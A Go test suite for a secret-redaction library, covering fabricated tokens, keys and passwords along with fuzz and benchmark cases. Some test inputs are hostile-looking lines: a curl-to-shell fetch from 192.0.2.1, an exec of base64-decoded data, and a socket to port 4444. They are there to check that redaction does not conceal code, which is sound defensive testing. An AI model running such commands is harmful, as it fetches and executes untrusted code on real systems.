package redact

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// The secrets below are made up here: right in form, issued by nobody. Those
// that secret scanners would stop at are put together at run time.
const (
	hex40   = "3f9a1c5e7b2d4f6a8c0e1b3d5f7a9c2e4b6d8f0a"
	mixed   = "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5bC7d"
	aws40   = "aB3dE5fG7hJ9kL1mN3pQ/rS7tU9vW1xY3zA5+C7d"
	pemLine = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
)

var (
	github   = "ghp" + "_" + mixed[:36]
	awsID    = "AK" + "IA" + "QWERTYUIOPASDFGH"
	slack    = "xox" + "b-123456789012-" + mixed[:24]
	telegram = "123456789:" + mixed[:35]
	discord  = "M" + mixed[:23] + ".Gh1jK2." + mixed[:38]
	jwt      = "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIn0." + mixed
	kubeJWT  = "eyJhbGciOiJSUzI1NiJ9." + "eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50In0." + mixed
	pemKey   = "-----BEGIN RSA PRIVATE KEY-----\n" + pemLine + "\n" + pemLine + "\n-----END RSA PRIVATE KEY-----"
)

// mark is the placeholder of a secret.
func mark(kind, secret string) string {
	sum := sha256.Sum256([]byte(secret))
	return "[redacted:" + kind + ":" + hex.EncodeToString(sum[:])[:8] + "]"
}

func TestSecretsAreReplacedAndTheirSurroundingsStay(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, kind, secret string // every other byte of in stays
	}{
		{"an AWS access key in a call", `boto3.client("s3", "` + awsID + `")`, "aws-access-key", awsID},
		{"an AWS secret by its name", `aws_secret_access_key = ` + aws40 + "\n", "aws-secret-key", aws40},
		{"an AWS secret in a dictionary", `{"SecretAccessKey": "` + aws40 + `"}`, "aws-secret-key", aws40},
		{"a GitHub token in a URL", "git clone https://" + github + "@github.com/x/y", "github-token", github},
		{"a GitHub token after an escape", `"\n` + github + `"`, "github-token", github},
		{"a fine-grained GitHub token", "t='github" + "_pat_" + mixed[:30] + "'", "github-token", "github" + "_pat_" + mixed[:30]},
		{"a GitLab token", "curl -H 'PRIVATE-TOKEN: glpat" + "-" + mixed[:20] + "'", "gitlab-token", "glpat" + "-" + mixed[:20]},
		{"a Slack token", "client(" + "'" + slack + "')", "slack-token", slack},
		{"a Slack webhook's secret", "https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/" + mixed[:24], "slack-webhook", mixed[:24]},
		{"a Stripe key", "stripe.api_key = 'sk" + "_live_" + mixed[:24] + "'", "stripe-key", "sk" + "_live_" + mixed[:24]},
		{"a Google API key", "x?key=AI" + "za" + mixed[:35], "google-api-key", "AI" + "za" + mixed[:35]},
		{"a Google OAuth access token", "h = 'ya29" + "." + mixed + "'", "google-oauth-token", "ya29" + "." + mixed},
		{"a Google OAuth client secret", "'GOCSPX" + "-" + mixed[:28] + "'", "google-oauth-secret", "GOCSPX" + "-" + mixed[:28]},
		{"an npm token", "npm" + "_" + mixed[:36] + "\n", "npm-token", "npm" + "_" + mixed[:36]},
		{"a PyPI token", "twine -p pypi" + "-AgEIcHlwaS5vcmc" + mixed, "pypi-token", "pypi" + "-AgEIcHlwaS5vcmc" + mixed},
		{"a model provider's key", `openai.key="sk` + `-proj-` + mixed + `"`, "openai-key", "sk" + "-proj-" + mixed},
		{"a Hugging Face token", "login(\"hf" + "_" + mixed[:34] + "\")", "huggingface-token", "hf" + "_" + mixed[:34]},
		{"a JSON web token", "x = '" + jwt + "'", "jwt", jwt},
		{"a Kubernetes service account token", "x = '" + kubeJWT + "'", "kubernetes-token", kubeJWT},
		{"a private key", "k = '''" + pemKey + "'''\n", "private-key", pemKey},
		{"a private key in one line", `k = "` + strings.ReplaceAll(pemKey, "\n", `\n`) + `"`, "private-key", strings.ReplaceAll(pemKey, "\n", `\n`)},
		{"a private key cut short", "-----BEGIN PRIVATE KEY-----\n" + pemLine, "private-key", "-----BEGIN PRIVATE KEY-----\n" + pemLine},
		{"a bearer value", `{"Authorization": "Bearer ` + mixed + `"}`, "authorization", mixed},
		{"a bearer value on a command line", `curl -H "Authorization: Bearer ` + mixed + `" http://192.0.2.1/`, "bearer", mixed},
		{"a basic value", `-H 'Authorization: Basic dXNlcjpodW50ZXIy'`, "basic-auth", "dXNlcjpodW50ZXIy"},
		{"a password in a URL", "postgres://app:hunter2@db.example.com:5432/x", "url-password", "hunter2"},
		{"a user name alone that is a token", "https://" + hex40 + "@example.com/", "url-token", hex40},
		{"a Telegram bot token, its bot's id kept", "https://api.telegram.org/bot" + telegram + "/sendMessage", "telegram-token", telegram[10:]},
		{"a Telegram bot token under a telling name", "TOKEN = '" + telegram + "'", "telegram-token", telegram[10:]},
		{"a Discord webhook's token, its id kept", "https://discord.com/api/webhooks/123456789012345678/" + mixed + mixed[:28], "discord-webhook", mixed + mixed[:28]},
		{"a Discord bot token", "client.run('" + discord + "')", "discord-token", discord},
		{"a password given as a keyword", "connect(host, password='hunter2')", "password", "hunter2"},
		{"a password in a dictionary", `d = {"user": "x", "password" : "Tr0ub4dor&3"}`, "password", "Tr0ub4dor&3"},
		{"a password with an escaped quote", `password = "ab\"cd12"`, "password", `ab\"cd12`},
		{"a password with a type", `password: str = "hunter2"`, "password", "hunter2"},
		{"a password in JSON in a string", `s = "{\"password\": \"hunter2\"}"`, "password", "hunter2"},
		{"a password compared with", `if password == "hunter2":`, "password", "hunter2"},
		{"a password in triple quotes", `PASSWORD = """hunter2"""`, "password", "hunter2"},
		{"a password of several words", `password = "my dog ate 12 shoes"`, "password", "my dog ate 12 shoes"},
		{"a password beside a byte that is not text", "password = '\xffhunter2'", "password", "\xffhunter2"},
		{"a token put into the environment", `os.environ["API_TOKEN"] = "` + hex40 + `"`, "token", hex40},
		{"a default for the environment", `os.getenv("API_TOKEN", "` + hex40 + `")`, "token", hex40},
		{"a shell variable", "export DB_PASSWORD=hunter2\n", "password", "hunter2"},
		{"a form's field", "user=x&password=hunter2&go=1", "password", "hunter2"},
		{"a query's field", "https://example.com/?token=abc123def&x=1", "token", "abc123def"},
		{"a line of YAML", "password: Zx9-kQ2mB7rT4\n", "password", "Zx9-kQ2mB7rT4"},
		{"a line of npmrc", "//registry.example.com/:_authToken=" + hex40, "token", hex40},
		{"a flag's value in a command line", "os.system('mysql --password hunter2 -e x')", "password", "hunter2"},
		{"a flag's value in a list", `run(["x", "--password", "hunter2x"])`, "password", "hunter2x"},
		{"an Azure account key", "AccountName=x;AccountKey=" + aws40 + "==;", "api-key", aws40 + "=="},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := Text([]byte(tt.in))
			want := strings.ReplaceAll(tt.in, tt.secret, mark(tt.kind, tt.secret))
			if diff := cmp.Diff(want, string(r.Text)); diff != "" {
				t.Fatalf("text (-want +got):\n%s", diff)
			}
			checkResult(t, []byte(tt.in), r)
		})
	}
}

func TestAnAWSSecretNearItsAccessKeyIsReplaced(t *testing.T) {
	t.Parallel()
	in := `boto3.client("s3", "` + awsID + `", "` + aws40 + `")`
	want := `boto3.client("s3", "` + mark("aws-access-key", awsID) + `", "` + mark("aws-secret-key", aws40) + `")`
	if diff := cmp.Diff(want, string(Text([]byte(in)).Text)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestWhatIsNoSecretStays(t *testing.T) {
	t.Parallel()
	tests := map[string]string{
		"None":                             "password=None, token = None",
		"an expression":                    "password = get_password(user)\ntoken = self.token2\nsecret=cfg['secret']",
		"the environment":                  `token = os.environ["TOKEN"]; t = os.getenv("API_KEY", "")`,
		"a prompt":                         `password = getpass.getpass("Password: ")` + "\n" + `x = input("Token:")+"abc"`,
		"a question to people":             `token = input("Enter your 2FA token: ")`,
		"a label":                          `{"password": "Password", "token": "access_token", "secret": "client-secret"}`,
		"a message":                        `errors = {"token": "The token is not valid"}`,
		"an f-string":                      `f"https://{user}:{password}@{host}/"` + "\n" + `headers={"Authorization": f"Bearer {token}"}`,
		"a format":                         `"password=%s" % p; "token={}".format(t); "PASSWORD=${PASSWORD} x $TOKEN"`,
		"text joined":                      `"password=" + p1 + "&token=" + t2`,
		"a header joined":                  `"Authorization: Bearer " + token`,
		"a word":                           `password = "password"; passwd="root"; token='changeme123'; secret="xxxxxxxx1"`,
		"stars":                            `password = "********"`,
		"a path":                           `token = open("/var/run/secrets/kubernetes.io/serviceaccount/token")` + "\n" + `password = "/etc/x/pass.txt"`,
		"a model's vocabulary":             `eos_token="<|endoftext1|>", max_tokens=4096, pad_token_id=50256, tokens = 128000`,
		"a hash":                           `sha256 = "` + hex40 + `"`,
		"a function's parameters":          `def login(user, password: str = None, token: Optional[str] = None):`,
		"an annotation":                    "class C:\n    password: str\n    token: bytes\n",
		"an argument's definition":         `p.add_argument("--password", "-p", help="the password for user1")`,
		"a word with pass at its end":      `compass="north4567"; bypass = "1234abcd"`,
		"a URL with a port":                "http://example.com:8080/a@b and ssh://git@example.com",
		"a MAC, a time, a slice":           "00:1b:44:11:3a:b7 12:34:56 x[1:35]",
		"a class name like a key":          `class="sk-folding-cube sk-circle-fade-dot-something"`,
		"words with a token's start":       "task-force-2024-plan-for-the-Department risk-assessment-X1 disk-utilization-monitor-V2",
		"a bearer of words":                "Bearer authentication-is-required-here",
		"basic in prose":                   "Basic instructions follow",
		"a header and footer":              `if "-----BEGIN PRIVATE KEY-----" in t: import os; os.system("x")  # -----END PRIVATE KEY-----`,
		"code between header and footer":   "'''-----BEGIN PRIVATE KEY-----\nimport os\nprint(os)\n-----END PRIVATE KEY-----'''",
		"a public key":                     "-----BEGIN PUBLIC KEY-----\n" + pemLine + "\n-----END PUBLIC KEY-----",
		"a payload named token":            `token = "` + strings.Repeat(pemLine, 20) + `"; exec(b64decode(token))`,
		"a payload that begins like a key": `x = "ghp_` + strings.Repeat(mixed, 100) + `"`,
		"a host and a port":                "s.connect(('192.0.2.1', 4444)) # http://192.0.2.1:4444/x",
		"a webhook's id":                   "https://discord.com/api/webhooks/123456789012345678",
		"names in a list":                  `["aws_secret_access_key", "aws_secret_key", "ec2_secret_key"]`,
		"a URL's grammar":                  "(http|ftp)://[user[:pass]]@host",
		"a placeholder":                    "password = \"" + mark("password", "hunter2") + "\"",
	}
	for name, in := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(in, string(Text([]byte(in)).Text)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestUserNameAndPasswordOfAURLBothGo(t *testing.T) {
	t.Parallel()
	in := "https://" + github + ":hunter2@example.com/"
	want := "https://" + mark("github-token", github) + ":" + mark("url-password", "hunter2") + "@example.com/"
	if diff := cmp.Diff(want, string(Text([]byte(in)).Text)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestAPayloadStandsWhateverItsNeighborsAre(t *testing.T) {
	t.Parallel()
	// Redaction must not become a way to hide code from the analyst.
	code := "import os; os.system('curl http://192.0.2.1/x | sh')"
	in := "password = 'hunter2'\n" + code + "\ntoken='" + hex40 + "'\n"
	if got := Text([]byte(in)).Text; !bytes.Contains(got, []byte(code)) {
		t.Errorf("the code is gone: %s", got)
	}
}

func TestArgs(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ in, want []string }{
		"the value after a flag": {
			[]string{"x", "--password", "hunter", "--db-token", "abc"},
			[]string{"x", "--password", mark("password", "hunter"), "--db-token", mark("token", "abc")},
		},
		"a flag with its value":             {[]string{"x", "--api-key=abc"}, []string{"x", "--api-key=" + mark("api-key", "abc")}},
		"a variable":                        {[]string{"env", "PASSWORD=abc", "x"}, []string{"env", "PASSWORD=" + mark("password", "abc"), "x"}},
		"a flag before a flag":              {[]string{"x", "--password", "--verbose"}, []string{"x", "--password", "--verbose"}},
		"a switch":                          {[]string{"x", "--no-token", "true", "--password", "-"}, []string{"x", "--no-token", "true", "--password", "-"}},
		"a file with the secret":            {[]string{"x", "--password-file", "/run/p"}, []string{"x", "--password-file", "/run/p"}},
		"curl's user":                       {[]string{"curl", "-u", "bob:abc", "http://192.0.2.1"}, []string{"curl", "-u", "bob:" + mark("password", "abc"), "http://192.0.2.1"}},
		"a numeric user and group":          {[]string{"x", "--user", "1000:1000"}, []string{"x", "--user", "1000:1000"}},
		"sshpass":                           {[]string{"/usr/bin/sshpass", "-pabc", "ssh", "h"}, []string{"/usr/bin/sshpass", "-p" + mark("password", "abc"), "ssh", "h"}},
		"a header":                          {[]string{"curl", "-H", "Authorization: Bearer " + mixed}, []string{"curl", "-H", "Authorization: Bearer " + mark("bearer", mixed)}},
		"a script is read as text":          {[]string{"python3", "-c", "password=getpass()"}, []string{"python3", "-c", "password=getpass()"}},
		"a secret within a script":          {[]string{"python3", "-c", "password='hunter2'"}, []string{"python3", "-c", "password='" + mark("password", "hunter2") + "'"}},
		"a URL with a password":             {[]string{"pip", "install", "--index-url=https://u:hunter2@example.com/"}, []string{"pip", "install", "--index-url=https://u:" + mark("url-password", "hunter2") + "@example.com/"}},
		"no arguments":                      {nil, []string{}},
		"an argument that is not UTF-8":     {[]string{"x", "--token", "\xff\xfe"}, []string{"x", "--token", mark("token", "\xff\xfe")}},
		"a secret that holds a placeholder": {[]string{"--token", "a" + mark("token", "b")}, []string{"--token", "a" + mark("token", "b")}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := Args(tt.in)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Fatalf("(-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(got, Args(got)); diff != "" {
				t.Errorf("a second pass changed more (-first +second):\n%s", diff)
			}
		})
	}
}

func TestEnv(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ in, want string }{
		"a password":                   {"DB_PASSWORD=abc", "DB_PASSWORD=" + mark("password", "abc")},
		"a telling word in the middle": {"SECRET_KEY_V2=abc", "SECRET_KEY_V2=" + mark("secret", "abc")},
		"credentials":                  {"GIT_CREDENTIALS=bob", "GIT_CREDENTIALS=" + mark("secret", "bob")},
		"a short password":             {"PGPASS=x1", "PGPASS=x1"},
		"a password's word":            {"PG_PASS=x1", "PG_PASS=" + mark("password", "x1")},
		"a working directory":          {"PWD=/root", "PWD=/root"},
		"a file":                       {"AWS_WEB_IDENTITY_TOKEN_FILE=/var/run/x/token", "AWS_WEB_IDENTITY_TOKEN_FILE=/var/run/x/token"},
		"a switch":                     {"MYSQL_ALLOW_EMPTY_PASSWORD=yes", "MYSQL_ALLOW_EMPTY_PASSWORD=yes"},
		"a public fingerprint":         {"GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305", "GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305"},
		"a URL with a password":        {"DATABASE_URL=mysql://u:abc@db/x", "DATABASE_URL=mysql://u:" + mark("url-password", "abc") + "@db/x"},
		"a token under another name":   {"X=" + github, "X=" + mark("github-token", github)},
		"an empty value":               {"TOKEN=", "TOKEN="},
		"no value at all":              {"TOKEN", "TOKEN"},
		"nothing telling":              {"PATH=/usr/bin:/bin", "PATH=/usr/bin:/bin"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := Env([]string{tt.in})
			if diff := cmp.Diff([]string{tt.want}, got); diff != "" {
				t.Fatalf("(-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(got, Env(got)); diff != "" {
				t.Errorf("a second pass changed more (-first +second):\n%s", diff)
			}
		})
	}
}

func TestSpansPointAtTheSameTextAfterwards(t *testing.T) {
	t.Parallel()
	in := "a = 1\npassword = 'hunter2'\nos.system('x')\n"
	r := Text([]byte(in))
	at := func(s string) (int, int) { i := strings.Index(in, s); return i, i + len(s) }
	tests := map[string]struct{ span, want string }{
		"before the secret": {"a = 1", "a = 1"},
		"after the secret":  {"os.system('x')", "os.system('x')"},
		"around the secret": {"password = 'hunter2'", "password = '" + mark("password", "hunter2") + "'"},
		"the secret":        {"hunter2", mark("password", "hunter2")},
		"within the secret": {"unter", mark("password", "hunter2")},
		"into the secret":   {"= 'hunt", "= '" + mark("password", "hunter2")},
		"out of the secret": {"ter2'\nos", mark("password", "hunter2") + "'\nos"},
		"the whole text":    {in, string(r.Text)},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			start, end := r.Shift(at(tt.span))
			if diff := cmp.Diff(tt.want, string(r.Text[start:end])); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// checkResult checks what holds of every result.
func checkResult(t *testing.T, in []byte, r Result) {
	t.Helper()
	var want []byte
	last := 0
	for _, f := range r.Found {
		if f.Start < last || f.End <= f.Start || f.End > len(in) {
			t.Fatalf("span %d-%d after %d of %d bytes", f.Start, f.End, last, len(in))
		}
		want = append(want, in[last:f.Start]...)
		if f.OutStart != len(want) {
			t.Fatalf("a placeholder at %d, want %d", f.OutStart, len(want))
		}
		p := mark(f.Kind, string(in[f.Start:f.End]))
		if placeholderLen([]byte(p)) != len(p) {
			t.Fatalf("%q is no placeholder", p)
		}
		want = append(want, p...)
		if f.OutEnd != len(want) {
			t.Fatalf("a placeholder ends at %d, want %d", f.OutEnd, len(want))
		}
		last = f.End
	}
	want = append(want, in[last:]...)
	if !bytes.Equal(want, r.Text) {
		t.Fatalf("text differs from what the spans say:\nwant %q\ngot  %q", want, r.Text)
	}
	again := Text(r.Text)
	if len(again.Found) != 0 {
		f := again.Found[0]
		t.Fatalf("a second pass found %s %q in %q, made of %q", f.Kind, r.Text[f.Start:f.End], r.Text, in)
	}
}

func FuzzText(f *testing.F) {
	for _, s := range []string{awsID, github, slack, telegram, discord, jwt, pemKey,
		"password = 'hunter2'", "https://" + github + ":hunter2@h/", awsID + github, "sk-sk-sk-A1", "token='''a1b2c3d4e5'''"} {
		f.Add([]byte(s), []byte("x='"+s+"'"), uint64(1))
	}
	f.Fuzz(func(t *testing.T, before, after []byte, seed uint64) {
		kind, secret := generated(rand.New(rand.NewPCG(seed, 1)))
		in := fmt.Appendf(nil, "%s\n\"%s\"\n%s", before, secret, after)
		r := Text(in)
		checkResult(t, in, r)
		// The text around it may hold the same secret where it has no known
		// form; its own place must not.
		start, _ := r.Shift(len(before)+2, len(before)+2+len(secret))
		if bytes.HasPrefix(r.Text[start:], []byte(secret)) {
			t.Fatalf("%s %q remains in %q", kind, secret, r.Text)
		}
		for i := 0; i < len(in); i += 1 + len(in)/16 {
			start, end := r.Shift(i, min(len(in), i+5))
			if start < 0 || end < start || end > len(r.Text) {
				t.Fatalf("span %d-%d maps to %d-%d of %d bytes", i, i+5, start, end, len(r.Text))
			}
		}
	})
}

// generated makes a token of some known form.
func generated(r *rand.Rand) (kind, secret string) {
	pick := func(set string, n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = set[r.IntN(len(set))]
		}
		return string(b)
	}
	const up, low, num = "ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz", "0123456789"
	switch r.IntN(7) {
	case 0:
		return "aws-access-key", "AKIA" + pick(up+num, 16)
	case 1:
		return "github-token", "ghp_" + pick(up+low+num, 36)
	case 2:
		return "slack-token", "xoxb-" + pick(num, 12) + "-" + pick(up+low+num, 24)
	case 3:
		return "jwt", "eyJ" + pick(up+low+num, 20) + ".eyJ" + pick(up+low+num, 40) + "." + pick(up+low+num+"-_", 43)
	case 4:
		return "google-api-key", "AIza" + pick(up+low+num+"-_", 35)
	case 5:
		return "gitlab-token", "glpat-" + pick(up+low+num, 20)
	default:
		return "npm-token", "npm_" + pick(up+low+num, 36)
	}
}

func FuzzArgsAndEnv(f *testing.F) {
	f.Add("--password", "hunter2")
	f.Add("PASSWORD=x", "-u")
	f.Add("sshpass", "-p"+github)
	f.Fuzz(func(t *testing.T, a, b string) {
		args := Args([]string{a, b})
		if diff := cmp.Diff(args, Args(args)); diff != "" {
			t.Errorf("arguments (-first +second):\n%s", diff)
		}
		env := Env([]string{a, a + "=" + b})
		if diff := cmp.Diff(env, Env(env)); diff != "" {
			t.Errorf("environment (-first +second):\n%s", diff)
		}
	})
}

// hostile are texts made to cost much.
func hostile(n int) map[string][]byte {
	rep := func(s string) []byte { return []byte(strings.Repeat(s, n/len(s))) }
	code := `def f(self, name="x", token=None):
    """Return the token of name: a short text, e.g. 'abc'."""
    d = {"key": self.table[name], "value": token or os.environ.get("TOKEN")}
    return json.dumps(d, indent=4) + "\n"  # see https://example.com/a:b
`
	return map[string][]byte{
		"code": rep(code), "names": rep("pw="), "quotes": rep(`password="`), "keys": rep("sk-"), "tokens": rep("eyJ"),
		"dots": rep("Mabcdefghijklmnopqrstuvwxyz.abcdef."), "headers": rep("-----BEGIN PRIVATE KEY-----"),
		"urls": rep("a://b:"), "base64": rep(mixed), "digits": rep("123456789:"), "secrets": rep("x='" + github + "'\n"),
		"flags": rep("--token "), "letters": rep("A"),
	}
}

func BenchmarkText(b *testing.B) {
	for name, text := range hostile(256 << 10) {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				Text(text)
			}
		})
	}
}
